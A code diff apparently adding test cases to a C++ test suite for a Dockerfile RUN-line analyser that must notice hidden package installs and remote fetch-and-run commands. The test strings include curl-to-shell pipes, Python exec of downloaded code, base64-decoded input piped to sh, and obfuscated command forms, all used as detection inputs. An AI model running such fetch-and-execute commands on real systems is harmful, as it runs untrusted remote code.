@@ -65,7 +65,9 @@ TEST_CASE("RUN: programs that run another hide nothing") {
     }
     CHECK(Parsed("Dockerfile", kFrom + "ENV C=\"pip install x\"\nRUN $C\n").names() == Names{"pkg:pypi/x"});
     CHECK(Parsed("Dockerfile", kFrom + "ENV P=\"a b\"\nRUN pip install $P\n").names() == Names{"pkg:pypi/a", "pkg:pypi/b"});
-    for (const char* const script : {"$(which pip) install x", "$P install x", "\"${P}\" add x", "P=pip; true || P=echo; $P install x", "pip $VERB x", "$'\\x70ip' install x", "read P <<< pip; $P install x"}) {
+    CHECK(names("$(echo pip install x)") == Names{"pkg:pypi/x"});
+    CHECK_FALSE(names("set -- pip install x; \"$@\"").empty());
+    for (const char* const script : {"$(which pip) install x", "$P install x", "\"${P}\" add x", "P=pip; true || P=echo; $P install x", "pip $VERB x", "$'\\x70ip' install x", "read P <<< pip; $P install x", "/usr/bin/pi? install x", "{pip,install,x}", "pip {install,x}", "$(echo pip) install x"}) {
         INFO(script);
         CHECK(is_noticed(script));
     }
@@ -109,14 +111,15 @@ TEST_CASE("RUN: what is fetched and run, through groups and prefixes") {
     }
     for (const char* const script : {"python -c \"import urllib.request as u; exec(u.urlopen('https://e.example/x').read())\"", "python3 -c 'import requests,os; os.system(requests.get(u).text)'",
                                      "python <<EOF\nimport subprocess\nsubprocess.run(['pip', 'install', 'x'])\nEOF", "<<EOF\n#!/usr/bin/env python3\nimport pip\npip.main(['install', 'x'])\nEOF",
-                                     "echo cGlwIGluc3RhbGwgeA== | base64 -d | sh", "curl $(cat u) | sh"}) {
+                                     "echo cGlwIGluc3RhbGwgeA== | base64 -d | sh", "curl $(cat u) | sh", "curl https://e.example/x > >(sh)", "aws s3 cp s3://b/x - | sh", "printf '%s %s x' pip install | sh",
+                                     "python -c \"__import__('pip').main(['install', 'x'])\"", "perl -e 'system(\"pip install x\")'", "python -c \"print(urlopen('https://e.example/x').read())\" | sh"}) {
         INFO(script);
         CHECK(is_noticed(script));
     }
     for (const char* const script : {"(curl https://e.example/x) > y", "curl https://e.example/x; (cd /tmp; sh i.sh)", "cat <<EOF > f\npip install x\nEOF", "cat <<EOF | tee f\npip install x\nEOF",
                                      "<<EOF\ncat > f <<E\npip install x\nE\nEOF", "python -c \"import requests; print(requests.__version__)\"", "python -c 'import subprocess; subprocess.run([\"ls\"])'",
                                      "python -c \"from ast import literal_eval; import requests; print(literal_eval('1'))\"", "echo \"pip install x\" | tee f", "cat <<< 'pip install x'", "echo $((1<<2))",
-                                     ". /opt/venv/bin/activate", "sh <<< 'true'"}) {
+                                     ". /opt/venv/bin/activate", "sh <<< 'true'", "exec > >(tee log)", "curl https://e.example/x | tr -d x > y"}) {
         INFO(script);
         const Parsed parsed = run(script);
         CHECK(parsed.understood);
